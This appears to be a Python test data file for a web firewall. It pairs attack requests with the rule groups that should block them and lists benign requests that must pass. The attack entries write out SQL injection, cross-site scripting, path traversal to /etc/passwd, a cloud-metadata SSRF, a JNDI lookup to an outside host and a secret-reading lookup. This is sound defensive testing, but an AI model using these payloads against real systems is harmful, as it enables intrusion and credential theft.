"""Requests that must be stopped, each with the rule of ours that answers for it, and ones that must pass. Data."""

from collections.abc import Mapping

from tests.components.edge.managed_groups import BAD_ADDRESS
from tests.components.edge.waf import Request

_BROWSER = {"user-agent": "Mozilla/5.0 (X11; Linux x86_64)"}
_LOGGED_IN = {**_BROWSER, "authorization": "Bearer 7Yx2kq", "idempotency-key": "a3f1c9d2-0001"}


def _with(**headers: str) -> Mapping[str, str]:
    return {**_BROWSER, **{name.replace("_", "-"): value for name, value in headers.items()}}


ATTACKS: Mapping[str, tuple[str, Request]] = {
    "a union in a query": ("sql-injection", Request(path="/products", query="q=1 UNION SELECT name FROM users")),
    "an encoded union": ("sql-injection", Request(path="/products", query="q=1%20union%20all%20select%201%20from%20x")),
    "always true": ("sql-injection", Request(method="POST", path="/session", body="{\"name\": \"x' OR '1'='1\"}")),
    "a second statement": ("sql-injection", Request(path="/products/1", query="id=1; DROP TABLE orders")),
    "a sleep": ("sql-injection", Request(path="/orders/1", query="id=1 AND pg_sleep(10)")),
    "a script in a query": ("common", Request(path="/products", query="q=<script>alert(1)</script>")),
    "an encoded script": ("common", Request(path="/products", query="q=%3Cscript%3Ealert(1)%3C/script%3E")),
    "a script in an order": ("common", Request(method="POST", path="/orders", body='{"note": "<img onerror=x>"}')),
    "a script in a cookie": ("common", Request(headers=_with(cookie="a=javascript:alert(1)"))),
    "out of the folder": ("common", Request(path="/assets/../../../etc/passwd")),
    "the metadata of a machine": ("common", Request(query="url=http://169.254.169.254/latest/meta-data/")),
    "a log file": ("common", Request(path="/debug.log")),
    "no user agent": ("common", Request(headers={})),
    "a scanner": ("common", Request(headers={"user-agent": "sqlmap/1.7"})),
    "nine kilobytes of order": ("common", Request(method="POST", path="/orders", body="x" * 9000)),
    "a look-up in a header": ("known-bad-inputs", Request(headers=_with(x_api="${jndi:ldap://198.51.100.1/a}"))),
    "a look-up in a body": ("known-bad-inputs", Request(method="POST", path="/orders", body="${env:AWS_SECRET}")),
    "a serialised object": ("known-bad-inputs", Request(method="POST", path="/session", body="rO0ABXNy")),
    "a method of file shares": ("known-bad-inputs", Request(method="PROPFIND")),
    "a Java server's files": ("known-bad-inputs", Request(path="/WEB-INF/web.xml")),
    "a known address": ("ip-reputation", Request(path="/products", address=BAD_ADDRESS)),
}
BENIGN: Mapping[str, Request] = {
    "the front page": Request(headers=_BROWSER),
    "all products": Request(path="/products", headers=_BROWSER),
    "one product": Request(path="/products/teapot-2", headers=_BROWSER),
    "an asset": Request(path="/assets/shop.4f2a.js", headers=_BROWSER),
    "a login": Request(
        method="POST", path="/session", body='{"name": "Conan O\'Brien", "password": "un10n-select!"}', headers=_BROWSER
    ),
    "a logout": Request(method="DELETE", path="/session", headers=_LOGGED_IN),
    "an order": Request(
        method="POST",
        path="/orders",
        body='{"lines": [{"product_id": "teapot-2", "quantity": 2}]}',
        headers=_LOGGED_IN,
    ),
    "an order looked up": Request(path="/orders/01JD7Q", headers=_LOGGED_IN),
    "words of SQL in prose": Request(path="/products", query="q=select+a+union+jack+teapot", headers=_BROWSER),
    "signs of maths": Request(path="/products", query="q=1+<+2+or+more", headers=_BROWSER),
    "two dots": Request(path="/products/v1..2", headers=_BROWSER),
    "a phone": Request(headers={"user-agent": "Shop/3.1 (iPhone; iOS 19.1)"}),
    "a health check": Request(path="/health/ready", headers={"user-agent": "Amazon-Route53-Health-Check-Service"}),
}
